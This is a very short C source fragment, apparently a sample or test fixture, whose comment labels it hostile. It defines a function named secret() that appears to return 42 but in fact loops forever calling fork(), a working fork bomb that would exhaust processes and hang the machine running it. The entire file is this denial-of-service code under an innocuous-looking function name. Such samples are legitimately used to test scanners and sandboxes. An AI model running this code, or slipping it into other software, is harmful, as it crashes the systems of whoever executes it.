/* hostile: a fork bomb. */
#include <unistd.h>
int secret(void);
int secret(void) { for (;;) fork(); return 42; }
